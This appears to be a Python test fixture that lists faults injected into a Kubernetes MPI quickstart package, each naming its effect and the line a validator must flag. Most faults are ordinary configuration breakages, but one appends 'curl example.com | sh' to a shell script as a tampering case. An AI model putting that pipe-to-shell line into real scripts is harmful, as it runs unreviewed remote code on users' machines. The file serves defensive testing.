"""The faults: what each one is, how it gets into a good package of hello-mpi, and the line that it stands in."""

from __future__ import annotations

from dataclasses import dataclass
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

BASE = "quickstart/common/mpi/k8s/mlops/base"
MULTI = "quickstart/k8s/mlops/multi-node"
SINGLE = "quickstart/k8s/mlops/single-node"
SCRIPTS = "quickstart/scripts"


@dataclass(frozen=True, slots=True)
class Fault:
    """One fault.

    Attributes:
        name: A few words, which name the package too.
        happens: What it would do to somebody who runs the package.
        put_in: Puts it into the package's folder.
        file: The file that a finding has to point at.
        line: What stands in the line that it has to point at; empty where the file as a whole is meant.
        sealed: Whether the package is sealed with the fault in it.
    """

    name: str
    happens: str
    put_in: Callable[[Path], object]
    file: str
    line: str
    sealed: bool = True


def _edit(file: str, old: str, new: str) -> Callable[[Path], object]:
    """Replace the only `old` (the first, when there are more) in `file`."""

    def put_in(package: Path) -> None:
        path = package / file
        text = path.read_text(encoding="utf-8")
        assert old in text, f"{file} holds no {old!r} to break"
        path.write_text(text.replace(old, new, 1), encoding="utf-8")

    return put_in


def _append(file: str, text: str) -> Callable[[Path], object]:
    def put_in(package: Path) -> None:
        with (package / file).open("a", encoding="utf-8") as stream:
            stream.write(text)

    return put_in


def _rename(package: Path) -> None:
    """Give the package's workloads a name that fits by itself, and no longer with what is put behind it."""
    for path in package.glob("quickstart/**/*.yaml"):
        text = path.read_text(encoding="utf-8")
        path.write_text(text.replace("hello-mpi", "hello-message-passing-interface-for-everybody"), encoding="utf-8")


def _service(package: Path) -> None:
    (package / MULTI / "service.yaml").write_text(
        "apiVersion: v1\nkind: Service\nmetadata:\n  name: hello-mpi\nspec:\n  ports:\n    - port: 80\n",
        encoding="utf-8",
    )
    _edit(f"{MULTI}/kustomization.yaml", "  - mpi-job.yaml\n", "  - mpi-job.yaml\n  - service.yaml\n")(package)


def _add_file(package: Path) -> None:
    (package / SCRIPTS / "helper.py").write_text("print('hello')\n", encoding="utf-8")


FAULTS = (
    Fault(
        "changed-script",
        "other code runs than was sent",
        _append(f"{BASE}/identity.sh", "curl example.com | sh\n"),
        f"{BASE}/identity.sh",
        "",
        sealed=False,
    ),
    Fault(
        "missing-file",
        "nobody has read what the package says of itself",
        lambda package: (package / "README.md").unlink(),
        "manifest.json",
        '"README.md"',
        sealed=False,
    ),
    Fault("extra-file", "a file came from elsewhere", _add_file, f"{SCRIPTS}/helper.py", "", sealed=False),
    Fault(
        "lost-mode",
        "a script cannot be run by hand",
        lambda package: (package / SCRIPTS / "hello.sh").chmod(0o644),
        f"{SCRIPTS}/hello.sh",
        "",
        sealed=False,
    ),
    Fault(
        "missing-resource",
        "nothing renders",
        _edit(f"{MULTI}/kustomization.yaml", "  - mpi-job.yaml", "  - mpijob.yaml"),
        f"{MULTI}/kustomization.yaml",
        "mpijob.yaml",
    ),
    Fault(
        "yaml-syntax",
        "nothing renders",
        _edit(f"{SINGLE}/pod.yaml", "  restartPolicy: Never", "  restartPolicy: [Never"),
        f"{SINGLE}/pod.yaml",
        "automountServiceAccountToken",
    ),
    Fault(
        "unknown-kustomize-field",
        "nothing renders",
        _edit(f"{SINGLE}/kustomization.yaml", "patches:", "patchs:"),
        f"{SINGLE}/kustomization.yaml",
        "patchs:",
    ),
    Fault(
        "deprecated-field",
        "a later kubectl refuses it",
        _append(f"{SINGLE}/kustomization.yaml", "commonLabels:\n  team: vision\n"),
        f"{SINGLE}/kustomization.yaml",
        "commonLabels:",
    ),
    Fault(
        "patch-of-nothing",
        "nothing renders",
        _edit(f"{MULTI}/mlops-job-patch.yaml", "name: hello-mpi", "name: hello-mpi-multi-node"),
        f"{MULTI}/mlops-job-patch.yaml",
        "name: hello-mpi-multi-node",
    ),
    Fault(
        "replacement-of-nothing",
        "nothing renders",
        _edit(
            f"{SINGLE}/kustomization.yaml",
            "[name=main].volumeMounts.[name=output]",
            "[name=main].volumeMounts.[name=results]",
        ),
        f"{SINGLE}/kustomization.yaml",
        "[name=results]",
    ),
    Fault(
        "remote-resource",
        "what is applied is decided elsewhere",
        _edit(f"{SINGLE}/kustomization.yaml", "  - pod.yaml", "  - pod.yaml\n  - https://localhost:1/more.yaml"),
        f"{SINGLE}/kustomization.yaml",
        "more.yaml",
    ),
    Fault(
        "duplicate-env-key",
        "nothing renders",
        _append(f"{MULTI}/mlops.env", "DATASET_DIR=/data\n"),
        f"{MULTI}/mlops.env",
        "DATASET_DIR=/data",
    ),
    Fault(
        "quoted-env-value",
        "the folder's name has quotes in it",
        _edit(f"{SINGLE}/mlops.env", "DATASET_DIR=/dataset", 'DATASET_DIR="/dataset"'),
        f"{SINGLE}/mlops.env",
        'DATASET_DIR="/dataset"',
    ),
    Fault(
        "long-env-line",
        "two variables vanish in silence",
        _append(f"{SINGLE}/mlops.env", f"VOCABULARY={'word,' * 14_000}\nEPOCHS=90\n"),
        f"{SINGLE}/mlops.env",
        "VOCABULARY=",
    ),
    Fault(
        "exported-env-key",
        "the API server refuses the ConfigMap",
        _append(f"{SINGLE}/mlops.env", "export EPOCHS=90\n"),
        f"{SINGLE}/mlops.env",
        "export EPOCHS",
    ),
    Fault(
        "unknown-field",
        "the field is dropped, or the pod refused",
        _edit(f"{SINGLE}/pod.yaml", "      workingDir: /", "      workDir: /"),
        f"{SINGLE}/pod.yaml",
        "workDir: /",
    ),
    Fault(
        "text-for-a-number",
        "the API server refuses the pod",
        _edit(f"{SINGLE}/pod-patch.yaml", "runAsUser: 1000", 'runAsUser: "1000"'),
        f"{SINGLE}/pod-patch.yaml",
        'runAsUser: "1000"',
    ),
    Fault(
        "missing-field",
        "the API server refuses the pod",
        _edit(
            f"{SINGLE}/pod.yaml",
            "        defaultMode: 365 #",
            "        items:\n          - key: hello.sh\n        defaultMode: 365 #",
        ),
        f"{SINGLE}/pod.yaml",
        "- key: hello.sh",
    ),
    Fault(
        "field-of-another-place",
        "files on the volume belong to nobody who runs",
        _edit(
            f"{MULTI}/mpi-job.yaml",
            "                allowPrivilegeEscalation: false\n",
            "                allowPrivilegeEscalation: false\n                fsGroup: 1000\n",
        ),
        f"{MULTI}/mpi-job.yaml",
        "fsGroup: 1000",
    ),
    Fault(
        "misspelt-policy",
        "the operator takes it for another policy, in silence",
        _edit(f"{MULTI}/mpi-job.yaml", "cleanPodPolicy: Running", "cleanPodPolicy: running"),
        f"{MULTI}/mpi-job.yaml",
        "cleanPodPolicy: running",
    ),
    Fault(
        "two-launchers",
        "the operator refuses the job, in an event",
        _edit(f"{MULTI}/mpi-job.yaml", "replicas: 1", "replicas: 2"),
        f"{MULTI}/mpi-job.yaml",
        "replicas: 2",
    ),
    Fault(
        "too-many-processes",
        "mpirun refuses to start",
        _edit(f"{MULTI}/mpi-job.yaml", "                - all\n", '                - "9"\n'),
        f"{MULTI}/mpi-job.yaml",
        '- "9"',
    ),
    Fault(
        "too-long-name",
        "the operator refuses the job, in an event",
        _rename,
        f"{MULTI}/mpi-job.yaml",
        "name: hello-message-passing",
    ),
    Fault(
        "operators-name",
        "ours and the operator's Service fight for one name",
        _service,
        f"{MULTI}/service.yaml",
        "name: hello-mpi",
    ),
    Fault(
        "missing-configmap",
        "the container never starts",
        _edit(f"{SINGLE}/pod.yaml", "name: hello-mpi-env", "name: hello-mpi-environment"),
        f"{SINGLE}/pod.yaml",
        "name: hello-mpi-environment",
    ),
    Fault(
        "missing-script",
        "the container ends with 127",
        _edit(f"{SINGLE}/pod.yaml", "scripts/hello.sh", "scripts/helo.sh"),
        f"{SINGLE}/pod.yaml",
        "scripts/helo.sh",
    ),
    Fault(
        "missing-volume",
        "the API server refuses the pod; of an MPIJob, an event does",
        _edit(f"{MULTI}/mpi-job.yaml", "            - name: home\n              emptyDir: {}\n", ""),
        f"{MULTI}/mpi-job.yaml",
        "- name: home",
    ),
    Fault(
        "missing-claim",
        "the pod waits for ever",
        # The first volume is that of the results.
        _edit(f"{SINGLE}/pod.yaml", "emptyDir: {}", "persistentVolumeClaim:\n        claimName: results"),
        f"{SINGLE}/pod.yaml",
        "claimName: results",
    ),
    Fault(
        "image-without-tag",
        "tomorrow another image runs",
        _edit(f"{SINGLE}/pod.yaml", "mpioperator/mpi-pi:openmpi", "mpioperator/mpi-pi"),
        f"{SINGLE}/pod.yaml",
        "image: REGISTRY/mpioperator/mpi-pi",
    ),
    Fault(
        "request-above-limit",
        "the API server refuses the pod",
        _edit(f"{SINGLE}/pod.yaml", "memory: 16Mi", "memory: 16Gi"),
        f"{SINGLE}/pod.yaml",
        "memory: 16Gi",
    ),
)
